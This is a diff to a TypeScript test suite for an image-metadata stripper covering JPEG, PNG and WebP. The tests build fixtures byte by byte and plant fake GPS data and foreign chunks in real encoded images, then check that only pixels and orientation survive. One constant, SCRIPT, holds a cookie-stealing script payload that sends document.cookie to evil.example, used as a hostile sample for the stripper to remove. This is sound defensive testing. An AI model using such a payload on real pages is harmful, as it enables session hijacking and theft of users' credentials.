@@ -1,8 +1,10 @@
 import { crc32, deflateSync } from "node:zlib";
+import sharp from "sharp";
 import { describe, expect, it } from "vitest";
 import { type CleanImage, IMAGE_CONTENT_TYPES, sniffImageKind, stripImageMetadata } from "~/utils/image-files";
 
-// Every fixture is assembled here, byte by byte, from the formats' own rules.
+// The fixtures are assembled here, byte by byte, from the formats' own rules; the last tests also take real
+// files written by libvips.
 
 type Bytes = Uint8Array | readonly number[] | string;
 
@@ -85,7 +87,7 @@ const SOS = segment(0xda, [1, 1, 0x00, 0, 63, 0]);
 // Entropy-coded data with stuffed FF 00 and a restart marker: neither ends the scan.
 const ENTROPY = [0x12, 0xff, 0x00, 0x34, 0xff, 0xd0, 0x56, 0xff, 0x00, 0x78, 0xff, 0xd1, 0x9a];
 
-/** What the brief promises as the only Exif left: "MM", IFD0 with one entry, Orientation SHORT 1, no next IFD. */
+/** The only Exif left: "MM", IFD0 with one entry, Orientation SHORT 1, no next IFD. */
 const orientationOnly = (orientation: number) =>
   segment(0xe1, concat("Exif\0\0", "MM", [0, 42], u32be(8), [0, 1], [0x01, 0x12, 0, 3], u32be(1), [0, orientation, 0, 0], u32be(0)));
 
@@ -104,14 +106,14 @@ function expectNoMetadata(bytes: Uint8Array) {
 }
 
 describe("stripImageMetadata: JPEG", () => {
-  it("drops Exif, XMP, IPTC, MPF and comments, keeps the orientation alone and every image segment byte for byte", () => {
+  it("keeps the tables, frame and scans byte for byte, the orientation alone and Adobe's colour transform, and drops the rest", () => {
     const clean = strip(phoneJpeg);
     expect(clean).toMatchObject({ kind: "jpeg", width: 16, height: 8, orientation: 6 });
-    expect(clean.bytes).toEqual(concat(SOI, JFIF, orientationOnly(6), ICC, ADOBE, DQT, SOF0, DHT, DRI, SOS, ENTROPY, EOI));
+    expect(clean.bytes).toEqual(concat(SOI, orientationOnly(6), ADOBE, DQT, SOF0, DHT, DRI, SOS, ENTROPY, EOI));
     expectNoMetadata(clean.bytes);
   });
 
-  it("reads a big-endian orientation too and puts it right after SOI when there is no JFIF header", () => {
+  it("reads a big-endian orientation too", () => {
     const clean = strip(concat(SOI, exifApp1("MM", 8), DQT, SOF0, DHT, SOS, ENTROPY, EOI));
     expect(clean.orientation).toBe(8);
     expect(clean.bytes).toEqual(concat(SOI, orientationOnly(8), DQT, SOF0, DHT, SOS, ENTROPY, EOI));
@@ -124,12 +126,12 @@ describe("stripImageMetadata: JPEG", () => {
   ])("adds no Exif when the orientation is %s", (_label, orientation) => {
     const clean = strip(concat(SOI, JFIF, exifApp1("MM", orientation), DQT, SOF0, SOS, ENTROPY, EOI));
     expect(clean.orientation).toBe(1);
-    expect(clean.bytes).toEqual(concat(SOI, JFIF, DQT, SOF0, SOS, ENTROPY, EOI));
+    expect(clean.bytes).toEqual(concat(SOI, DQT, SOF0, SOS, ENTROPY, EOI));
   });
 
-  it("skips fill bytes between markers and keeps standalone markers", () => {
+  it("drops fill bytes between markers, and markers without a payload outside a scan", () => {
     const clean = strip(concat(SOI, [0xff, 0xff], JFIF, [0xff, 0xff, 0xff], COMMENT, [0xff, 0x01], DQT, SOF0, SOS, ENTROPY, [0xff], EOI));
-    expect(clean.bytes).toEqual(concat(SOI, JFIF, [0xff, 0x01], DQT, SOF0, SOS, ENTROPY, EOI));
+    expect(clean.bytes).toEqual(concat(SOI, DQT, SOF0, SOS, ENTROPY, EOI));
   });
 
   it("cleans between the scans of a progressive JPEG and drops whatever follows EOI", () => {
@@ -137,13 +139,20 @@ describe("stripImageMetadata: JPEG", () => {
     const trailer = concat(SOI, exifApp1("II", 3), "an appended gain map or motion photo");
     const clean = strip(concat(SOI, JFIF, DQT, SOF2, DHT, SOS, ENTROPY, DHT, COMMENT, XMP, SOS, ENTROPY.slice(2), EOI, trailer));
     expect(clean).toMatchObject({ width: 640, height: 480, orientation: 1 });
-    expect(clean.bytes).toEqual(concat(SOI, JFIF, DQT, SOF2, DHT, SOS, ENTROPY, DHT, SOS, ENTROPY.slice(2), EOI));
+    expect(clean.bytes).toEqual(concat(SOI, DQT, SOF2, DHT, SOS, ENTROPY, DHT, SOS, ENTROPY.slice(2), EOI));
     expectNoMetadata(clean.bytes);
   });
 
-  it("removes a JFIF thumbnail", () => {
+  it("drops the JFIF header with its thumbnail: a decoder needs neither", () => {
     const thumbnail = segment(0xe0, concat("JFIF\0", [1, 2, 0, 0, 1, 0, 1, 1, 1], [0xaa, 0xbb, 0xcc]));
-    expect(strip(concat(SOI, thumbnail, DQT, SOF0, SOS, ENTROPY, EOI)).bytes).toEqual(concat(SOI, JFIF, DQT, SOF0, SOS, ENTROPY, EOI));
+    expect(strip(concat(SOI, thumbnail, DQT, SOF0, SOS, ENTROPY, EOI)).bytes).toEqual(concat(SOI, DQT, SOF0, SOS, ENTROPY, EOI));
+  });
+
+  it("rebuilds Adobe's segment from its colour transform alone, and drops one it cannot read", () => {
+    const padded = segment(0xee, concat("Adobe", [0, 100, 0, 0, 0, 0, 1], "GPS 41.9484N <script>"));
+    expect(strip(concat(SOI, padded, DQT, SOF0, SOS, ENTROPY, EOI)).bytes).toEqual(concat(SOI, ADOBE, DQT, SOF0, SOS, ENTROPY, EOI));
+    const unknownTransform = segment(0xee, concat("Adobe", [0, 100, 0, 0, 0, 0, 7]));
+    expect(strip(concat(SOI, unknownTransform, DQT, SOF0, SOS, ENTROPY, EOI)).bytes).toEqual(concat(SOI, DQT, SOF0, SOS, ENTROPY, EOI));
   });
 
   it("refuses a file cut anywhere, even just before the last byte", () => {
@@ -163,6 +172,35 @@ describe("stripImageMetadata: JPEG", () => {
       "zero width": concat(SOI, DQT, sof(0xc0, 0, 8), SOS, ENTROPY, EOI),
       "a width over 20000": concat(SOI, DQT, sof(0xc0, 20_001, 8), SOS, ENTROPY, EOI),
       "a second SOI": concat(SOI, SOI, DQT, SOF0, SOS, ENTROPY, EOI),
+      "a second frame": concat(SOI, DQT, SOF0, SOF0, SOS, ENTROPY, EOI),
+      "a hierarchical frame": concat(SOI, DQT, sof(0xc5, 16, 8), SOS, ENTROPY, EOI),
+      "a table longer than its tables": concat(
+        SOI,
+        segment(0xdb, concat([0], new Array<number>(64).fill(1), "GPS")),
+        SOF0,
+        SOS,
+        ENTROPY,
+        EOI,
+      ),
+      "a Huffman table longer than its codes": concat(
+        SOI,
+        DQT,
+        SOF0,
+        segment(0xc4, concat([0, 0, 1], new Array<number>(14).fill(0), [5], "GPS")),
+        SOS,
+        ENTROPY,
+        EOI,
+      ),
+      "a frame header longer than its components": concat(
+        SOI,
+        DQT,
+        segment(0xc0, [8, 0, 8, 0, 16, 1, 1, 0x11, 0, 0x47]),
+        SOS,
+        ENTROPY,
+        EOI,
+      ),
+      "a scan header longer than its components": concat(SOI, DQT, SOF0, segment(0xda, [1, 1, 0x00, 0, 63, 0, 0x47]), ENTROPY, EOI),
+      "a restart interval of three bytes": concat(SOI, DQT, SOF0, segment(0xdd, [0, 4, 0]), SOS, ENTROPY, EOI),
     };
     for (const [label, bytes] of Object.entries(refused)) expect(stripImageMetadata(bytes), label).toBeNull();
     expect(strip(concat(SOI, DQT, sof(0xc1, 20_000, 20_000), SOS, ENTROPY, EOI))).toMatchObject({ width: 20_000, height: 20_000 });
@@ -204,12 +242,28 @@ const phonePng = concat(
   IEND,
 );
 
+/** The orientation in a PNG: an eXIf chunk of the same TIFF as the JPEG's. */
+const orientationOnlyPng = (orientation: number) => chunk("eXIf", orientationOnly(orientation).subarray(10));
+
 describe("stripImageMetadata: PNG", () => {
-  it("drops text, eXIf, tIME and C2PA chunks and keeps the others byte for byte, CRCs included", () => {
+  it("keeps the image's chunks byte for byte, CRCs included, and the orientation alone, and drops the rest", () => {
     const clean = strip(phonePng);
-    expect(clean).toMatchObject({ kind: "png", width: 2, height: 1, orientation: 1 });
-    expect(clean.bytes).toEqual(concat(PNG_SIGNATURE, IHDR, SRGB, PHYS, IDAT1, IDAT2, IEND));
+    expect(clean).toMatchObject({ kind: "png", width: 2, height: 1, orientation: 6 });
+    expect(clean.bytes).toEqual(concat(PNG_SIGNATURE, IHDR, orientationOnlyPng(6), SRGB, IDAT1, IDAT2, IEND));
     expectNoMetadata(clean.bytes);
+  });
+
+  it("keeps a palette, its transparency and the colour chunks that take no text", () => {
+    const paletted = chunk("IHDR", [...u32be(2), ...u32be(1), 8, 3, 0, 0, 0]);
+    const kept = [
+      chunk("gAMA", u32be(45455)),
+      chunk("cHRM", new Array<number>(32).fill(1)),
+      chunk("PLTE", [0, 0, 0, 255, 255, 255]),
+      chunk("tRNS", [0]),
+    ];
+    const image = chunk("IDAT", deflateSync(Uint8Array.from([0, 0, 1])));
+    const bytes = concat(PNG_SIGNATURE, paletted, ...kept, chunk("bKGD", [1]), image, IEND);
+    expect(strip(bytes).bytes).toEqual(concat(PNG_SIGNATURE, paletted, ...kept, image, IEND));
   });
 
   it("drops whatever follows IEND", () => {
@@ -231,6 +285,24 @@ describe("stripImageMetadata: PNG", () => {
       "a chunk running past the end": concat(PNG_SIGNATURE, IHDR, u32be(0x7fff_0000), "IDAT", IDAT1, IEND),
       "zero height": concat(PNG_SIGNATURE, ihdr(2, 0), IDAT1, IEND),
       "a width over 20000": concat(PNG_SIGNATURE, ihdr(20_001, 1), IDAT1, IEND),
+      "a critical chunk no decoder knows": concat(PNG_SIGNATURE, IHDR, chunk("HIDE", "GPS 41.9484N"), IDAT1, IDAT2, IEND),
+      "an sRGB chunk longer than its one byte": concat(
+        PNG_SIGNATURE,
+        IHDR,
+        chunk("sRGB", [0, ...toBytes("GPS 41.9484N")]),
+        IDAT1,
+        IDAT2,
+        IEND,
+      ),
+      "transparency for a colour type that has its own": concat(PNG_SIGNATURE, IHDR, chunk("tRNS", [0, 0]), IDAT1, IDAT2, IEND),
+      "a palette image without a palette": concat(PNG_SIGNATURE, chunk("IHDR", [...u32be(2), ...u32be(1), 8, 3, 0, 0, 0]), IDAT1, IEND),
+      "a bit depth its colour type does not have": concat(
+        PNG_SIGNATURE,
+        chunk("IHDR", [...u32be(2), ...u32be(1), 4, 6, 0, 0, 0]),
+        IDAT1,
+        IEND,
+      ),
+      "an IEND with data": concat(PNG_SIGNATURE, IHDR, IDAT1, IDAT2, chunk("IEND", "GPS")),
     };
     for (const [label, bytes] of Object.entries(refused)) expect(stripImageMetadata(bytes), label).toBeNull();
   });
@@ -261,11 +333,14 @@ const phoneWebp = webp(
   riffChunk("XMP ", "<x:xmpmeta>xap/1.0 GPSLatitude 52.5201</x:xmpmeta>"),
 );
 
+/** The orientation in a WebP: an EXIF chunk of the same TIFF as the JPEG's. */
+const orientationOnlyWebp = (orientation: number) => riffChunk("EXIF", orientationOnly(orientation).subarray(10));
+
 describe("stripImageMetadata: WebP", () => {
-  it("drops the EXIF and XMP chunks, clears their flags and rewrites the RIFF size", () => {
+  it("keeps the image chunk and the orientation alone, sets VP8X's flags to match and rewrites the RIFF size", () => {
     const clean = strip(phoneWebp);
-    expect(clean).toMatchObject({ kind: "webp", width: 640, height: 480, orientation: 1 });
-    expect(clean.bytes).toEqual(webp(vp8x(0x20, 640, 480), ICCP, VP8_640x480));
+    expect(clean).toMatchObject({ kind: "webp", width: 640, height: 480, orientation: 6 });
+    expect(clean.bytes).toEqual(webp(vp8x(0x08, 640, 480), VP8_640x480, orientationOnlyWebp(6)));
     expect(new DataView(clean.bytes.buffer, clean.bytes.byteOffset).getUint32(4, true)).toBe(clean.bytes.length - 8);
     expectNoMetadata(clean.bytes);
   });
@@ -297,8 +372,190 @@ describe("stripImageMetadata: WebP", () => {
       "a bad VP8 start code": webp(riffChunk("VP8 ", [0x50, 0x2a, 0x00, 0x9d, 0x01, 0x2b, 0x80, 0x02, 0xe0, 0x01])),
       "a bad VP8L signature": webp(riffChunk("VP8L", [0x2e, 0, 0, 0, 0])),
       "a canvas over 20000": webp(vp8x(0, 20_001, 10), VP8_640x480),
+      "a canvas the image does not fill": webp(vp8x(0, 641, 480), VP8_640x480),
+      "a VP8X longer than its fields": webp(riffChunk("VP8X", concat([0, 0, 0, 0], u24le(639), u24le(479), "GPS")), VP8_640x480),
+      "two images": webp(vp8x(0, 640, 480), VP8_640x480, VP8_640x480),
+      "an animation": webp(
+        vp8x(0x02, 640, 480),
+        riffChunk("ANIM", [0, 0, 0, 0, 0, 0]),
+        riffChunk("ANMF", concat(new Array<number>(16).fill(0), VP8_640x480)),
+      ),
     };
     for (const [label, bytes] of Object.entries(refused)) expect(stripImageMetadata(bytes), label).toBeNull();
+  });
+});
+
+// --- Real images carrying what a viewer does not need -----------------------------------------------------------
+
+// Real files, written and read back by libvips (sharp, which wrangler's local runtime brings): what is
+// kept must still decode to the very same pixels, the right way up.
+const GPS = "GPSLatitude 41.9484N GPSLongitude 87.6553W";
+const SCRIPT = "<script>fetch('https://evil.example/?'+document.cookie)</script>";
+const WIDTH = 24;
+const HEIGHT = 16;
+
+function rgbaPixels(): Buffer {
+  const pixels = Buffer.alloc(WIDTH * HEIGHT * 4);
+  for (let index = 0; index < WIDTH * HEIGHT; index++)
+    pixels.set([(index * 7) % 256, (index * 13) % 256, (index * 29) % 256, 128 + (index % 128)], index * 4);
+  return pixels;
+}
+
+function encode(format: "jpeg" | "png" | "webp") {
+  const image = sharp(rgbaPixels(), { raw: { width: WIDTH, height: HEIGHT, channels: 4 } });
+  return image[format]().toBuffer();
+}
+const decoded = (bytes: Uint8Array) => sharp(bytes).raw().toBuffer();
+
+function expectCarriesNothing(bytes: Uint8Array) {
+  for (const secret of [GPS, SCRIPT, "GPS", "<script", "Canon"]) expect(contains(bytes, secret), secret).toBe(false);
+}
+
+/** The markers of a JPEG, in order, checking that each segment's length lands on the next marker. */
+function jpegMarkers(bytes: Uint8Array): number[] {
+  expect([...bytes.subarray(0, 2)]).toEqual(SOI);
+  const markers: number[] = [];
+  let at = 2;
+  for (;;) {
+    expect(bytes[at], `a marker at ${at}`).toBe(0xff);
+    const marker = bytes[at + 1]!;
+    markers.push(marker);
+    if (marker === 0xd9) break;
+    at += 2 + ((bytes[at + 2]! << 8) | bytes[at + 3]!);
+    if (marker === 0xda)
+      while (at < bytes.length && !(bytes[at] === 0xff && bytes[at + 1] !== 0 && !(bytes[at + 1]! >= 0xd0 && bytes[at + 1]! <= 0xd7))) at++;
+  }
+  expect(at + 2, "EOI ends the file").toBe(bytes.length);
+  return markers;
+}
+
+/** The chunks of a PNG, in order, checking every length and CRC. */
+function pngChunks(bytes: Uint8Array): string[] {
+  expect([...bytes.subarray(0, 8)]).toEqual(PNG_SIGNATURE);
+  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
+  const types: string[] = [];
+  for (let at = 8; at < bytes.length;) {
+    const length = view.getUint32(at);
+    types.push(String.fromCharCode(...bytes.subarray(at + 4, at + 8)));
+    expect(view.getUint32(at + 8 + length), `CRC of ${types.at(-1)}`).toBe(crc32(bytes.subarray(at + 4, at + 8 + length)));
+    at += 12 + length;
+  }
+  expect(types.at(-1)).toBe("IEND");
+  return types;
+}
+
+/** The chunks of a WebP, in order, checking the RIFF size and every chunk's. */
+function webpChunks(bytes: Uint8Array): string[] {
+  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
+  expect(view.getUint32(4, true)).toBe(bytes.length - 8);
+  const fourccs: string[] = [];
+  let at = 12;
+  while (at < bytes.length) {
+    fourccs.push(String.fromCharCode(...bytes.subarray(at, at + 4)));
+    const size = view.getUint32(at + 4, true);
+    at += 8 + size + (size % 2);
+  }
+  expect(at).toBe(bytes.length);
+  return fourccs;
+}
+
+/** A JPEG from its first table on, past the APPn segments before it. */
+function jpegFromTables(bytes: Uint8Array) {
+  let at = 2;
+  while (bytes[at + 1]! >= 0xe0) at += 2 + ((bytes[at + 2]! << 8) | bytes[at + 3]!);
+  return bytes.subarray(at);
+}
+
+describe("stripImageMetadata keeps only what shows the picture", () => {
+  it("JPEG: nothing of unknown APPn, ICC, Adobe padding, JPGn, comments or Exif survives; the pixels and orientation do", async () => {
+    const original = await encode("jpeg");
+    const image = jpegFromTables(original);
+    const sos = image.findIndex((byte, index) => byte === 0xff && image[index + 1] === 0xda);
+    const hostile = concat(
+      SOI,
+      segment(0xe0, concat("JFXX\0", [0x10], GPS)),
+      segment(0xe1, concat("Exif\0\0", exifTiff("II", 6), GPS)),
+      segment(0xe1, concat("http://ns.adobe.com/xap/1.0/\0", SCRIPT)),
+      segment(0xe2, concat("ICC_PROFILE\0", [1, 1], GPS, SCRIPT)),
+      segment(0xe3, concat("META\0", GPS)),
+      segment(0xeb, concat("JP", [0, 0], "jumb c2pa ", SCRIPT)),
+      segment(0xee, concat("Adobe", [0, 100, 0, 0, 0, 0, 1], GPS)),
+      segment(0xef, SCRIPT),
+      segment(0xf0, GPS),
+      segment(0xfd, SCRIPT),
+      segment(0xfe, GPS),
+      image.subarray(0, sos),
+      segment(0xfe, SCRIPT),
+      segment(0xe4, GPS),
+      image.subarray(sos),
+      GPS,
+    );
+    const clean = strip(hostile);
+    expectCarriesNothing(clean.bytes);
+    expect(clean).toMatchObject({ kind: "jpeg", width: WIDTH, height: HEIGHT, orientation: 6 });
+    expect(clean.bytes).toEqual(concat(SOI, orientationOnly(6), ADOBE, image));
+    expect(jpegMarkers(clean.bytes)).toEqual([0xe1, 0xee, ...jpegMarkers(concat(SOI, image))]);
+    expect(await decoded(clean.bytes)).toEqual(await decoded(original));
+    expect(await sharp(clean.bytes).metadata()).toMatchObject({ format: "jpeg", width: WIDTH, height: HEIGHT, orientation: 6 });
+  });
+
+  it("PNG: nothing of text, eXIf, an ICC profile's name, or chunks no viewer needs survives; the pixels and orientation do", async () => {
+    const original = await encode("png");
+    const chunks = pngChunks(original);
+    expect(chunks[0]).toBe("IHDR");
+    const ihdrEnd = 8 + 25;
+    const iendAt = original.length - 12;
+    const hostile = concat(
+      original.subarray(0, ihdrEnd),
+      chunk("tEXt", concat("Comment\0", GPS)),
+      chunk("iTXt", concat("XML:com.adobe.xmp\0\0\0\0\0", SCRIPT)),
+      chunk("eXIf", concat(exifTiff("MM", 6), GPS)),
+      chunk("iCCP", concat(GPS, [0, 0], deflateSync(SCRIPT))),
+      chunk("prVt", concat(GPS, SCRIPT)),
+      chunk("caBX", SCRIPT),
+      chunk("sPLT", concat(GPS, [0, 8], [1, 2, 3, 4, 0, 1])),
+      original.subarray(ihdrEnd, iendAt),
+      chunk("zTXt", concat("Comment\0", [0], deflateSync(GPS))),
+      chunk("tIME", [0x07, 0xe9, 5, 4, 12, 30, 0]),
+      chunk("teXt", GPS),
+      original.subarray(iendAt),
+      SCRIPT,
+    );
+    const clean = strip(hostile);
+    expectCarriesNothing(clean.bytes);
+    expect(clean).toMatchObject({ kind: "png", width: WIDTH, height: HEIGHT, orientation: 6 });
+    expect(pngChunks(clean.bytes)).toEqual(["IHDR", "eXIf", ...chunks.filter((type) => ["IDAT", "IEND"].includes(type))]);
+    expect(await decoded(clean.bytes)).toEqual(await decoded(original));
+    expect(await sharp(clean.bytes).metadata()).toMatchObject({ format: "png", width: WIDTH, height: HEIGHT, orientation: 6 });
+  });
+
+  it("WebP: nothing of ICCP, EXIF, XMP or unknown chunks survives; VP8X says what is left; the pixels and orientation do", async () => {
+    const original = await encode("webp");
+    expect(webpChunks(original)).toEqual(["VP8X", "ALPH", "VP8 "]);
+    const alphAt = 12 + 18;
+    const hostile = webp(
+      vp8x(0x20 | 0x10 | 0x08 | 0x04, WIDTH, HEIGHT),
+      riffChunk("ICCP", concat(GPS, SCRIPT)),
+      riffChunk("JUNK", GPS),
+      original.subarray(alphAt),
+      riffChunk("EXIF", concat(exifTiff("II", 6), GPS)),
+      riffChunk("XMP ", SCRIPT),
+      riffChunk("C2PA", SCRIPT),
+      riffChunk("SCRT", concat(GPS, SCRIPT)),
+    );
+    const clean = strip(concat(hostile, GPS));
+    expectCarriesNothing(clean.bytes);
+    expect(clean).toMatchObject({ kind: "webp", width: WIDTH, height: HEIGHT, orientation: 6 });
+    expect(webpChunks(clean.bytes)).toEqual(["VP8X", "ALPH", "VP8 ", "EXIF"]);
+    expect(clean.bytes).toEqual(webp(vp8x(0x10 | 0x08, WIDTH, HEIGHT), original.subarray(alphAt), orientationOnlyWebp(6)));
+    expect(await decoded(clean.bytes)).toEqual(await decoded(original));
+    expect(await sharp(clean.bytes).metadata()).toMatchObject({
+      format: "webp",
+      width: WIDTH,
+      height: HEIGHT,
+      orientation: 6,
+      hasAlpha: true,
+    });
   });
 });
 
